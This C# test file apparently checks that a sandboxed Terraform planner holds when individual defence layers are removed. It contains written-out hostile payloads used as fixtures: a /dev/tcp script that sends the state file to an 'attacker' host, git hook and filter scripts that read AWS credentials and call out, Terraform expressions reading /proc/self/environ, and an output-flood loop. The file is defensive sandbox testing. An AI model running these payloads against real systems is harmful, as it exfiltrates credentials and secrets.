using System.Net;
using System.Net.Sockets;
using System.Text;
using McpInfra.Guardrails.Redaction;
using McpInfra.TestKit;
using McpInfra.Tools.Git;
using McpInfra.Tools.Plans;
using McpInfra.Tools.Plans.Engines.Terraform;
using McpInfra.Tools.Plans.Engines.Terraform.Providers;
using McpInfra.Tools.Plans.Engines.Terraform.Rules;
using McpInfra.Tools.Plans.State;
using McpInfra.Tools.Sandbox;
using McpInfra.Tools.Sandbox.Egress;
using Xunit;
using Endpoint = McpInfra.Tools.Sandbox.Egress.Endpoint;

namespace McpInfra.Attacks.HostileRepositories;

/// <summary>Each layer taken away, as no configuration can: another one holds.</summary>
public sealed class With_a_layer_off : IDisposable
{
    private const string Evil = "terraform {\n  required_providers {\n    evil = { source = \"acme/evil\" }\n  }\n}\nresource \"evil_thing\" \"a\" {}\n";

    // Sends all of the state's file to the attacker, and says what the proxy thought of it.
    private const string Send = """
        exec 3<>/dev/tcp/127.0.0.1/${HTTP_PROXY##*:}
        s=$(<../state/terraform.tfstate)
        printf 'PUT http://attacker:PORT/state HTTP/1.1\r\nHost: attacker:PORT\r\nContent-Length: %s\r\n\r\n%s' ${#s} "$s" >&3
        read -r -t 20 status <&3
        echo "sent: $status"
        """;

    private static readonly StackState State = StackState.Parse(Encoding.UTF8.GetBytes(HostileWorld.State));
    private static readonly SandboxLimits Limits = new() { Time = TimeSpan.FromSeconds(15), Memory = 1 << 30 };
    private static readonly SecretTokens Tokens = new(new byte[32]);
    private readonly DirectoryInfo root = Directory.CreateTempSubdirectory("mcp-infra-layers-");
    private readonly TcpListener attacker = new(IPAddress.Loopback, 0);

    public With_a_layer_off()
    {
        attacker.Start();
        Directory.CreateDirectory(Owned);
        Environment.SetEnvironmentVariable("MCP_INFRA_TEST_CANARY", Canary.Of("environment"));
    }

    private string Owned => Path.Combine(root.FullName, "owned");

    private int Port => ((IPEndPoint)attacker.LocalEndpoint).Port;

    public void Dispose()
    {
        attacker.Dispose();
        root.Delete(recursive: true);
    }

    public static TheoryData<string> Unread => [.. HostileCode.Expressions.Select(hostile => hostile.Name)];

    [Theory]
    [MemberData(nameof(Unread))]
    public async Task Unread_code_meets_the_cage_and_a_state_of_tokens(string name)
    {
        var hostile = HostileCode.Expressions.Single(one => one.Name == name);
        var outcome = await RunAsync(hostile.Files.Select(file => (file.Key, Placed(file.Value))), StateSanitizer.Sanitize(State, Tokens), egress: []);
        Assert.Null(Canary.In(Encoding.UTF8.GetString(outcome.Plan) + Encoding.UTF8.GetString(outcome.Errors)));
        Assert.DoesNotContain("root:x:", Encoding.UTF8.GetString(outcome.Plan), StringComparison.Ordinal);
        Assert.Empty(Directory.EnumerateFileSystemEntries(Owned));
        Assert.False(attacker.Pending());
    }

    [Fact]
    public void Without_the_jail_of_edits_the_code_is_still_read()
    {
        foreach (var path in new[] { ".git/hooks/post-checkout", ".github/workflows/ci.yml", "terraform.tfstate", "elsewhere/main.tf" })
        {
            var before = new[] { new TreeFile("main.tf", TreeFileKind.File, "a", 1) };
            var code = new CodeUnderPlan([.. before, new(path, TreeFileKind.File, "b", 1)], before, ".", _ => "# nothing"u8.ToArray());
            Assert.Contains(TerraformRules.Check(code).Faults, fault => fault.Rule.StartsWith("an edit must", StringComparison.Ordinal));
        }
    }

    [Fact]
    public async Task With_git_itself_at_work_on_the_tree_what_it_starts_sees_and_writes_nothing_of_the_host()
    {
        Skip.UnlessFound("git");
        var home = Directory.CreateDirectory(Path.Combine(root.FullName, "home", ".aws")).FullName;
        await File.WriteAllTextAsync(Path.Combine(home, "credentials"), Canary.Of("home"), TestContext.Current.CancellationToken);
        var payload = Placed("#!/bin/bash\necho NAME >> /work/ran\ncat @HOME@/.aws/credentials >> /work/seen\ntouch @OWNED@/git\n(echo x > /dev/tcp/127.0.0.1/@ATTACKER@)\nexit 1\n");
        var request = new SandboxRequest { Binds = [new("/usr/bin", "/usr/bin"), new("/usr/bin", "/bin")], Environment = new Dictionary<string, string> { ["PATH"] = "/usr/bin" }, Limits = Limits };
        await using var cage = await (await BubblewrapAsync()).OpenAsync(request, TestContext.Current.CancellationToken);
        foreach (var name in new[] { "monitor", "filter", "hook" })
        {
            await cage.WriteAsync(name, Encoding.UTF8.GetBytes(payload.Replace("NAME", name, StringComparison.Ordinal)), TestContext.Current.CancellationToken);
        }

        await cage.WriteAsync("tree/.gitattributes", "* filter=evil\n"u8.ToArray(), TestContext.Current.CancellationToken);
        await cage.RunAsync(Shell("git init -q tree; cd tree; chmod +x ../monitor ../filter ../hook; mkdir -p .git/hooks; cp ../hook .git/hooks/pre-commit; git config core.fsmonitor ../monitor; git config filter.evil.clean 'sh /work/filter'; git status; git add .; git -c user.name=a -c user.email=a@b commit -m one"), TestContext.Current.CancellationToken);
        var ran = await cage.RunAsync(Shell("sort -u ran; cat seen"), TestContext.Current.CancellationToken);
        Assert.Equal("filter\nhook\nmonitor\n", Encoding.UTF8.GetString(ran.Output));
        Assert.Empty(Directory.EnumerateFileSystemEntries(Owned));
        Assert.False(attacker.Pending());
    }

    [Fact]
    public async Task With_a_state_of_secrets_nothing_can_carry_them_away()
    {
        var raw = new SanitizedState(State.Bytes!, new HashSet<MaskedValue>());
        var outcome = await RunAsync([("main.tf", Evil), ("payload.sh", Send.Replace("PORT", $"{Port}", StringComparison.Ordinal))], raw, egress: []);
        Assert.Contains("sent: HTTP/1.1 403", Encoding.UTF8.GetString(outcome.Errors), StringComparison.Ordinal);
        Assert.False(attacker.Pending());
    }

    [Fact]
    public async Task With_an_open_proxy_only_tokens_go_out()
    {
        var heard = HearAsync();
        var outcome = await RunAsync(
            [("main.tf", Evil), ("payload.sh", Send.Replace("PORT", $"{Port}", StringComparison.Ordinal))], StateSanitizer.Sanitize(State, Tokens), egress: [new Endpoint("attacker", Port)]);
        Assert.Contains("sent: HTTP/1.1 200", Encoding.UTF8.GetString(outcome.Errors), StringComparison.Ordinal);
        var sent = await heard;
        Assert.Contains("[secret:", sent, StringComparison.Ordinal);
        Assert.Null(Canary.In(sent));
    }

    [Fact]
    public async Task Without_a_cage_the_code_is_still_read_and_the_state_is_of_tokens()
    {
        var outcome = await RunAsync(
            [("main.tf", "resource \"terraform_data\" \"s\" {}\noutput \"o\" {\n  value = \"${strrev(terraform_data.s.output.password)} ${file(\"../state/terraform.tfstate\")} ${file(\"/proc/self/environ\")}\"\n}\n")],
            StateSanitizer.Sanitize(State, Tokens), egress: [], new Uncaged(OwnProgram.Locate()));
        Assert.Null(Canary.In(Encoding.UTF8.GetString(outcome.Plan) + Encoding.UTF8.GetString(outcome.Errors)));
        foreach (var hostile in HostileCode.All.Where(hostile => hostile.Edits is null && hostile.Files.Keys.All(path => !path.EndsWith('@'))))
        {
            var tree = hostile.Files.Select(file => new TreeFile(file.Key, TreeFileKind.File, file.Key, file.Value.Length)).ToList();
            Assert.False(TerraformRules.Check(new CodeUnderPlan(tree, tree, ".", file => Encoding.UTF8.GetBytes(Placed(hostile.Files[file.Path]))) { Egress = ["awsmoto:1"] }).Passed, hostile.Name);
        }
    }

    [Fact]
    public async Task With_an_endless_pipe_memory_ends_a_flood()
    {
        var shell = Directory.CreateDirectory(Path.Combine(root.FullName, "shell")).FullName;
        File.Copy(Skip.UnlessFound("bash"), Path.Combine(shell, "bash"));
        var request = new SandboxRequest { Binds = [new ReadOnlyBind(shell, "/shell")], Limits = new SandboxLimits { Memory = 300 << 20, Time = TimeSpan.FromMinutes(1) } };
        var ended = await Assert.ThrowsAsync<SandboxException>(async () =>
        {
            await using var cage = await (await BubblewrapAsync()).OpenAsync(request, TestContext.Current.CancellationToken);
            await cage.RunAsync(new Step { Arguments = ["/shell/bash", "-c", "b=x; for i in {1..20}; do b=$b$b; done; while :; do printf %s \"$b\"; done"], MostOutput = int.MaxValue - 100 }, TestContext.Current.CancellationToken);
        });
        Assert.Contains("ended early", ended.Message, StringComparison.Ordinal);
    }

    private static Step Shell(string script) => new() { Arguments = ["/usr/bin/bash", "-c", script] };

    private string Placed(string text) => new Places(Path.Combine(root.FullName, "home"), Owned, 1, Port).In(text);

    private async Task<string> HearAsync()
    {
        using var one = await attacker.AcceptTcpClientAsync(TestContext.Current.CancellationToken);
        var heard = new StringBuilder();
        var buffer = new byte[64 << 10];
        while (!heard.ToString().Contains("\"lineage\"", StringComparison.Ordinal) || !heard.ToString().Contains("password", StringComparison.Ordinal))
        {
            heard.Append(Encoding.UTF8.GetString(buffer, 0, await one.GetStream().ReadAsync(buffer, TestContext.Current.CancellationToken)));
        }

        await one.GetStream().WriteAsync("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"u8.ToArray(), TestContext.Current.CancellationToken);
        return heard.ToString();
    }

    private async Task<TerraformOutcome> RunAsync(IEnumerable<(string Path, string Text)> files, SanitizedState state, IReadOnlyList<Endpoint> egress, ISandbox? sandbox = null)
    {
        Skip.UnlessFound("terraform");
        var stop = TestContext.Current.CancellationToken;
        var mirror = Path.Combine(root.FullName, "mirror");
        HostileMirror.Write(mirror, Skip.UnlessFound("bash"));
        await File.WriteAllTextAsync(Path.Combine(root.FullName, "terraform.rc"), HostileMirror.Configuration(mirror), stop);
        var program = TerraformProgram.Find(new EngineSettings(CliConfig: Path.Combine(root.FullName, "terraform.rc")));
        var given = files.ToList();
        using var providers = new ProviderPackages(new PackageCache(Path.Combine(root.FullName, "cache")));
        using var packages = given.Any(file => file.Path == "payload.sh")
            ? await providers.OfAsync(program.Config, [new RequiredProvider(ProviderAddress.Parse("acme/evil")!, [])], null, ProviderPackages.Platform(SandboxKind.Bubblewrap), stop)
            : PackageSet.Empty;
        var input = new TerraformInput([.. given.Select(file => (file.Path, new Func<byte[]>(() => Encoding.UTF8.GetBytes(file.Text))))], ".", "default", state, egress) { Packages = packages };
        await using var proxy = EgressProxy.Start(outside: new Outside { Resolve = (_, _) => Task.FromResult<IPAddress[]>([IPAddress.Loopback]) });
        try
        {
            await using var run = await TerraformRun.OpenAsync(sandbox ?? await BubblewrapAsync(), program, packages, proxy, Limits, stop);
            return await run.PlanAsync(input, stop);
        }
        catch (SandboxException ended)
        {
            return new TerraformOutcome([], [], "plan", Encoding.UTF8.GetBytes(ended.Message)); // It ran without end, and was ended.
        }
    }

    private static async Task<ISandbox> BubblewrapAsync()
    {
        var sandbox = Sandboxes.Of(SandboxKind.Bubblewrap);
        var readiness = await sandbox.ProbeAsync(TestContext.Current.CancellationToken);
        return readiness.Ready ? sandbox : throw Skip.Because(readiness.Remedy);
    }
}
